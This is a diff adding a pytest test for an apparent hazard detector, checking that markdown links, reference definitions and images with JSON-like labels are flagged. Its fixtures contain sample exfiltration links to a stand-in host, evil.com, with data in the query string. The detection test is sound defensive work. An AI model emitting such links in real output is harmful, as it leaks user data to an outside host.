@@ -29,6 +29,14 @@ def one(text: str, detector: HazardDetector = OPEN) -> tuple[str, float, str]:
     return signal.rule, signal.score, text[signal.span.start : signal.span.end]
 
 
+@pytest.mark.parametrize("label", ['{"a": 1}', '"a", "b"', '\n  {"a": [1, 2]}', '\uff5b"a": 1}'])
+def test_a_label_like_json_counts_as_unseen(label: str) -> None:
+    assert one(f"See [{label}](https://evil.com/?q=abc) ok") == ("markdown_image", 0.95, "](https://evil.com/?q=abc)")
+    rule, _, found = one(f"[{label}]: https://evil.com/?q=abc")
+    assert (rule, found) == ("markdown_definition", "]: https://evil.com/?q=abc")
+    assert one(f"![{label}](https://evil.com/?q=abc)")[2] == f"![{label}](https://evil.com/?q=abc)"
+
+
 @pytest.mark.parametrize(
     ("text", "score"),
     [
